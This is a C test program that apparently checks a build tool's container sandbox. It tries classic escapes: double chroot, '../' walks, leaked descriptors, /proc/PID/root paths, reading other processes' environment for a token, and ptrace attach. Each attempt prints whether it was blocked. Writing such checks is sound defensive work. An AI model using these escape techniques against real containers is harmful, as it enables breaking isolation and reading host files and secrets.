/*
 * An attacker's program for the sandbox tests (built static, copied into an image, run as a RUN step or
 * by `jbuild run`). It tries each known way out of a container's root and prints one line per way:
 * "NAME: blocked (why)" or "NAME: ESCAPED ...". The tests fail on any ESCAPED line.
 *
 *   escape HOST_FILE [PID...]
 *
 * HOST_FILE is a file outside the root (read, then appended to); the PIDs are processes outside the
 * container to trace (jbuild's), besides 1 and the parent. Their /proc entries, and those of the pids just
 * below our parent's (where jbuild's are without a PID namespace), are read for ESCAPE_TEST_TOKEN in the
 * environment and for HOST_FILE through their root, by path and from a descriptor of /proc.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

static const char *target;

/* Reads and appends to the host file by `path` (as seen from where we are now). */
static void try_file(const char *name, int dirfd, const char *path) {
    int fd = openat(dirfd, path, O_RDONLY);
    if (fd < 0) {
        printf("%s: blocked (%s)\n", name, strerror(errno));
        return;
    }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = '\0';
    int w = openat(dirfd, path, O_WRONLY | O_APPEND);
    int wrote = w >= 0 && write(w, "escaped\n", 8) == 8;
    printf("%s: ESCAPED read %zd bytes [%s]%s\n", name, n, buf, wrote ? ", appended" : "");
}

/* mkdir; chroot into it; chdir("..") past the real root; chroot("."): the classic way out of a chroot. */
static void double_chroot(void) {
    int root = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/.esc", 0700);
    if (chroot("/.esc") != 0) {
        printf("double-chroot: blocked (chroot: %s)\n", strerror(errno));
        close(root);
        return;
    }
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) {
            break;
        }
    }
    if (chroot(".") != 0) {
        printf("double-chroot: blocked (second chroot: %s)\n", strerror(errno));
    } else {
        try_file("double-chroot", AT_FDCWD, target);
    }
    fchdir(root); /* back where we were for the next tries (a no-op where the escape failed) */
    chroot(".");
    close(root);
}

/* A directory walk upwards without a chroot: ends at the root when the root holds. */
static void dot_dot(void) {
    char path[8192] = "";
    for (int i = 0; i < 64; i++) {
        strcat(path, "../");
    }
    strcat(path, target + 1);
    try_file("dot-dot", AT_FDCWD, path);
}

/* Descriptors that reached the command beyond stdio: each is a way to the host's files. */
static void descriptors(void) {
    int found = 0;
    for (int fd = 3; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) == 0 || errno != EBADF) {
            char link[64], where[512] = "";
            snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(link, where, sizeof where - 1);
            where[n > 0 ? n : 0] = '\0';
            printf("descriptors: ESCAPED fd %d is open (%s)\n", fd, where);
            found++;
        }
    }
    if (!found) {
        printf("descriptors: blocked (none beyond 0-2)\n");
    }
}

/* Every process's root through /proc: a process outside the container's root opens the host's files. */
static void proc_roots(void) {
    DIR *proc = opendir("/proc");
    if (proc == NULL) {
        printf("proc-root: blocked (no /proc: %s)\n", strerror(errno));
        return;
    }
    int escaped = 0;
    struct dirent *e;
    while ((e = readdir(proc)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') {
            continue;
        }
        char path[8192];
        snprintf(path, sizeof path, "/proc/%s/root%s", e->d_name, target);
        int fd = open(path, O_RDONLY);
        if (fd >= 0) {
            close(fd);
            try_file("proc-root", AT_FDCWD, path);
            escaped = 1;
            break;
        }
    }
    closedir(proc);
    if (!escaped) {
        printf("proc-root: blocked (no process's root leads to it)\n");
    }
}

/* Tracing a process outside the container (jbuild, or the sandbox around us) would let us run code there. */
static void trace(int argc, char **argv) {
    int escaped = 0;
    pid_t pids[64];
    int n = 0;
    pids[n++] = 1;
    pids[n++] = getppid();
    for (int i = 2; i < argc && n < 64; i++) {
        pids[n++] = (pid_t) atol(argv[i]);
    }
    for (int i = 0; i < n; i++) {
        if (pids[i] <= 0 || pids[i] == getpid()) {
            continue;
        }
        if (ptrace(PTRACE_ATTACH, pids[i], NULL, NULL) == 0) {
            printf("ptrace: ESCAPED attached to %d\n", (int) pids[i]);
            ptrace(PTRACE_DETACH, pids[i], NULL, NULL);
            escaped = 1;
        }
    }
    if (!escaped) {
        printf("ptrace: blocked (%s)\n", strerror(errno));
    }
}

/* Outside processes' environment and root, by /proc/PID paths, relative to a /proc descriptor, and from /proc as cwd. */
static void proc_entries(int argc, char **argv) {
    pid_t pids[2100];
    int n = 0;
    pids[n++] = 1;
    for (int i = 2; i < argc && n < 64; i++) {
        pids[n++] = (pid_t) atol(argv[i]);
    }
    for (pid_t p = getppid(); p > 1 && n < 2100 && getppid() - p < 2000; p--) {
        pids[n++] = p;
    }
    int proc = open("/proc", O_RDONLY | O_DIRECTORY);
    int escaped = 0;
    for (int i = 0; i < n && !escaped; i++) {
        char env[16384], path[8192];
        snprintf(path, sizeof path, "/proc/%d/environ", (int) pids[i]);
        int fd = open(path, O_RDONLY);
        ssize_t len = fd < 0 ? 0 : read(fd, env, sizeof env - 1);
        if (fd >= 0) {
            close(fd);
        }
        for (ssize_t at = 0; at < len; at += (ssize_t) strlen(env + at) + 1) {
            env[len] = '\0';
            if (strncmp(env + at, "ESCAPE_TEST_TOKEN=", 18) == 0) {
                printf("proc-pid: ESCAPED %s holds %s\n", path, env + at);
                escaped = 1;
            }
        }
        snprintf(path, sizeof path, "%d/root%s", (int) pids[i], target);
        if (proc >= 0 && (fd = openat(proc, path, O_RDONLY)) >= 0) {
            close(fd);
            try_file("proc-pid", proc, path);
            escaped = 1;
        } else if (proc >= 0 && fchdir(proc) == 0 && (fd = open(path, O_RDONLY)) >= 0) {
            close(fd);
            try_file("proc-pid", AT_FDCWD, path);
            escaped = 1;
        }
        chdir("/");
    }
    if (proc >= 0) {
        close(proc);
    }
    if (!escaped) {
        printf("proc-pid: blocked (no outside process's environment or root)\n");
    }
}

int main(int argc, char **argv) {
    if (argc < 2 || argv[1][0] != '/') {
        fprintf(stderr, "usage: escape /HOST/FILE [PID...]\n");
        return 2;
    }
    target = argv[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    descriptors();
    double_chroot();
    dot_dot();
    proc_roots();
    proc_entries(argc, argv);
    trace(argc, argv);
    return 0;
}
